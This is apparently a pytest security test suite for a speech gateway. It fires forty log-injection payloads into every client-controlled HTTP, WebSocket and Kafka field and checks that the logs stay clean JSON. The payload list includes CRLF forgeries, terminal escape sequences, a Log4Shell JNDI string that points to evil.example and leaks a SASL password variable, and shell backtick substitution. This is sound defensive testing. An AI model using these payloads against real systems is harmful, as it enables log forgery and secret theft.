"""Nobody writes into the log: forty payloads in every field that a client controls.

A gateway as a process of its own is sent each payload in each field, as raw bytes, also where HTTP
cannot carry them. Its output, stdout and stderr in one, has to remain lines of JSON: short, plain
ASCII, one for each session, and with nothing in them of what was sent. Each payload bears a mark
with its field and its name, so that a line that holds it tells where it came from.
"""

import asyncio
import contextlib
import json
import re
from collections import Counter
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from confluent_kafka import Producer
from speech_gateway.handshake import PATH
from speech_gateway.testing import RawClient, raw_client, request
from speech_lib.testing.embedded import EmbeddedPipeline
from speech_tools import stack
from websockets.frames import Frame, Opcode

pytestmark = [pytest.mark.security, pytest.mark.timeout(120)]

LINE_BYTES = 2048
MARK = re.compile(r"mark-(?P<field>[a-z_]+)-(?P<payload>[a-z0-9_]+)-end")
HOLE = "here-goes-the-payload"
TOPICS = ("speech.audio.ingress", "speech.asr.text", "speech.audio.ingress.dlq")
FORGED = b'{"event": "forged", "level": "critical"}'
LEVELS: Mapping[str, Mapping[str, str]] = {
    "production": {"LOG_LEVEL": "INFO"},
    "development": {"ENVIRONMENT": "development", "LOG_LEVEL": "DEBUG"},
}
PAYLOADS = {
    "crlf": b"\r\n" + FORGED + b"\r\n",
    "lf": b"\n" + FORGED + b"\n",
    "cr": b"\r" + FORGED + b"\r",
    "blank_line": b"\r\n\r\n" + FORGED + b"\n",
    "header": b"\r\nX-Forwarded-For: forged\r\n" + FORGED,
    "unicode_line_separator": "\u2028".encode() + FORGED,
    "unicode_paragraph_separator": "\u2029".encode() + FORGED,
    "next_line": "\x85".encode() + FORGED,
    "next_line_latin1": b"\x85" + FORGED,
    "vertical_tab_and_form_feed": b"\x0b\x0c" + FORGED,
    "file_separators": b"\x1c\x1d\x1e" + FORGED,
    "nul": b"\x00" + FORGED,
    "backspaces": b"\x08" * 40 + FORGED,
    "delete": b"\x7f" * 40,
    "bell": b"\x07" * 40,
    "all_controls": bytes(range(32)),
    "c1_controls": "".join(map(chr, range(0x80, 0xA0))).encode(),
    "ansi_clear": b"\x1b[2J\x1b[H",
    "ansi_colour": b"\x1b[31mERROR\x1b[0m",
    "ansi_link": b"\x1b]8;;https://evil.example\x07text\x1b]8;;\x07",
    "terminal_title": b"\x1b]0;title\x07",
    "terminal_answerback": b"\x1b[21t\x1b[6n\x05",
    "csi_8_bit": b"\x9b2J",
    "bidi_override": "\u202e\u2066gnp.exe\u2069".encode(),
    "zero_width": "\u200b\u200d\u2060\ufeff".encode(),
    "byte_order_marks": b"\xef\xbb\xbf\xff\xfe",
    "lone_surrogates": b"\xed\xa0\x80\xed\xb0\x80",
    "invalid_utf_8": b"\xff\xfe\xc0\xaf\x80",
    "overlong_utf_8": b"\xc0\x8a\xe0\x80\x8a",
    "quotes": b'", "level": "critical", "event": "forged',
    "closing_braces": b'"}}]}\\n{"event":"forged"}',
    "backslashes": b"\\" * 200,
    "escapes_as_text": b"\\r\\n\\u000a\\x1b[2J\\u2028",
    "percent_encoded": b"%0d%0a%7B%22event%22%3A%22forged%22%7D%0d%0a%00%1b[2J%e2%80%a8",
    "percent_twice": b"%250d%250a%25%u000a",
    "log4j": b"${jndi:ldap://evil.example/a}${env:KAFKA_SASL_PASSWORD}",
    "format_strings": b"%s%n%(message)s%d{0}{event}{0.__class__}{{}}$HOME`id`",
    "emoji": "\N{PILE OF POO}\N{FAMILY}".encode() * 40,
    "as_long_as_allowed": "\N{PILE OF POO}".encode() * 1_000,
    "longer_than_allowed": b"x" * 9_216,
}


@dataclass(frozen=True)
class Case:
    """What is sent: a request, and frames that follow where it is admitted."""

    head: bytes
    frames: tuple[Frame, ...]


def filled(template: bytes, payload: bytes) -> bytes:
    """Put a payload into its place."""
    return template.replace(HOLE.encode(), payload)


BYE = Frame(Opcode.CLOSE, b"\x03\xe8")
AUDIO = Frame(Opcode.BINARY, bytes(320))
HEADERS = {
    "origin": "Origin",
    "user_agent": "User-Agent",
    "subprotocol": "Sec-WebSocket-Protocol",
    "extensions": "Sec-WebSocket-Extensions",
    "forwarded_for": "X-Forwarded-For",
    "traceparent": "traceparent",
    "tracestate": "tracestate",
    "correlation_id": "X-Correlation-ID",
    "key": "Sec-WebSocket-Key",
    "host": "Host",
    "cookie": "Cookie",
    "authorization": "Authorization",
    "header_name": HOLE,
}
REQUESTS = {
    "path": request(f"/{HOLE}"),
    "query": request(f"{PATH}?{HOLE}=1"),
    "language": request(f"{PATH}?language={HOLE}"),
    "method": request(method=HOLE),
    "version": request(version=f"HTTP/{HOLE}"),
    "zone_of_an_address": request(headers=[("X-Forwarded-For", f"fe80::1%{HOLE}")]),
    **{
        field: request(headers=[(name, HOLE)], without=frozenset({name}))
        for field, name in HEADERS.items()
    },
}
MESSAGES = {
    "event": (Opcode.TEXT, f'{{"event": "{HOLE}"}}'.encode(), 65_536),
    "unknown_key": (Opcode.TEXT, f'{{"event": "done", "{HOLE}": "{HOLE}"}}'.encode(), 65_536),
    "not_json": (Opcode.TEXT, HOLE.encode(), 65_536),
    "audio": (Opcode.BINARY, HOLE.encode(), 65_536),
    "ping": (Opcode.PING, HOLE.encode(), 125),
    "close_reason": (Opcode.CLOSE, b"\x03\xe8" + HOLE.encode(), 125),
}


def cases() -> Iterator[Case]:
    """Yield every payload in every field, fields taking turns: refusals are logged ten a second."""
    for name, payload in PAYLOADS.items():
        for field, template in REQUESTS.items():
            yield Case(filled(template, marked(field, name, payload)), (BYE,))
        for field, (opcode, template, most) in MESSAGES.items():
            data = filled(template, marked(field, name, payload))[:most]
            frames = (AUDIO, Frame(opcode, data), BYE)
            yield Case(request(), frames)


def marked(field: str, name: str, payload: bytes) -> bytes:
    """Return a payload with its mark before it and behind it."""
    mark = f"mark-{field}-{name}-end".encode()
    return mark + payload + mark


async def send(port: int, case: Case) -> bool:
    """Send one case and hear the gateway out; tell whether it was admitted."""
    async with raw_client(port, case.head, upgrade=False) as client:
        if not await is_admitted(client):
            await client.read_rest()
            return False
        client.send(*case.frames)
        await client.read_rest()
        return True


async def is_admitted(client: RawClient) -> bool:
    """Read the head of the answer; there is none where the request was no HTTP."""
    with contextlib.suppress(asyncio.IncompleteReadError, ConnectionError):
        return (await client.read_head()).startswith("HTTP/1.1 101 ")
    return False


async def send_all(port: int) -> int:
    """Send all cases, one after the other; return how many were admitted."""
    return sum([await send(port, case) for case in cases()])


def log_of(process: stack.Process, folder: Path) -> list[bytes]:
    """Stop a service, and return all that it has written."""
    assert process.stop() == 0
    return (folder / f"{process.name}.log").read_bytes().split(b"\n")[:-1]


def problems(line: bytes) -> Iterator[str]:
    """Yield what is wrong with a line of the log."""
    if len(line) > LINE_BYTES:
        yield f"longer than {LINE_BYTES} bytes"
    if not all(0x20 <= byte < 0x7F for byte in line):
        yield "not printable ASCII"
    try:
        event = json.loads(line)["event"]
    except (ValueError, KeyError, TypeError):
        yield "not a JSON object with an event"
    else:
        if event == "forged":
            yield "forged"


def wrong_lines(lines: list[bytes]) -> list[str]:
    """Return each line that is wrong, with why, and the field and payload it came from."""
    return [
        f"{problem}: {origins(line)}: {line[:200]!r}"
        for line in lines
        for problem in problems(line)
    ]


def origins(line: bytes) -> list[tuple[str, ...]]:
    """Return the fields and payloads whose marks are in a line."""
    return sorted({found.groups() for found in MARK.finditer(line.decode("latin-1"))})


@pytest.fixture(scope="module")
def kafka() -> Iterator[EmbeddedPipeline]:
    with EmbeddedPipeline(TOPICS) as kafka:
        yield kafka


def test_there_are_forty_payloads_and_every_field():
    """The sizes that the documents name; and no mark is lost in the filling."""
    assert len(PAYLOADS) == 40
    assert len(REQUESTS) + len(MESSAGES) == 25
    sent = Counter(
        origin
        for case in cases()
        for origin in origins(case.head + b"".join(frame.data for frame in case.frames))
    )
    assert len(sent) == 40 * 25


@pytest.mark.parametrize("level", LEVELS)
def test_no_field_of_a_client_gets_into_the_gateway_s_log(kafka, tmp_path, level):
    """One line of JSON a session, or a count in the next; short, without a client's text."""
    settings = {
        **LEVELS[level],
        **stack.MANY_FROM_ONE_ADDRESS,
        "TRUSTED_PROXIES": "127.0.0.1",
        "ORIGIN_ALLOWLIST": "https://app.example,none",
    }
    with stack.gateway(kafka, tmp_path, settings) as gateway:
        port = int(gateway.url.rpartition(":")[2].partition("/")[0])
        admitted = asyncio.run(send_all(port))
        lines = log_of(gateway.process, tmp_path)
    assert wrong_lines(lines) == []
    assert [origin for line in lines for origin in origins(line)] == []
    sessions, refusals = told(lines, "session"), told(lines, "refused")
    assert sum(1 + line.get("omitted", 0) for line in sessions) == admitted
    assert len(sessions) > len(PAYLOADS)
    assert refusals


def told(lines: list[bytes], event: str) -> list[dict[str, Any]]:
    """Return the lines of one kind; of those that a storm can cause most are left out."""
    return [line for line in map(json.loads, lines) if line["event"] == event]


def put(kafka: EmbeddedPipeline, topic: str) -> None:
    """Write records that are no events, each with a payload as its correlation id."""
    producer = Producer({"bootstrap.servers": kafka.bootstrap_servers})
    for name, payload in PAYLOADS.items():
        headers = [("correlation_id", marked("record", name, payload))]
        producer.produce(topic, b"no event", headers=headers)
    assert producer.flush(20) == 0


def test_what_stands_in_records_gets_into_the_recogniser_s_log_bounded_and_escaped(kafka, tmp_path):
    """Whoever may write to its topic chooses the correlation id: each is within its one line."""
    topic = "records-of-somebody-else"
    kafka.create_topic(topic)
    put(kafka, topic)
    settings = {**LEVELS["development"], "TOPIC_AUDIO_INGRESS": topic}
    with stack.recogniser(kafka, tmp_path, settings) as recogniser:
        for offset in range(len(PAYLOADS)):
            recogniser.wait_for(event="utterance", outcome="dead_letter", offset=offset)
        lines = log_of(recogniser, tmp_path)
    assert wrong_lines(lines) == []
    assert len(told(lines, "utterance")) == len(PAYLOADS)
    assert {origin for line in lines for origin in origins(line)} == {
        ("record", name) for name in PAYLOADS
    }
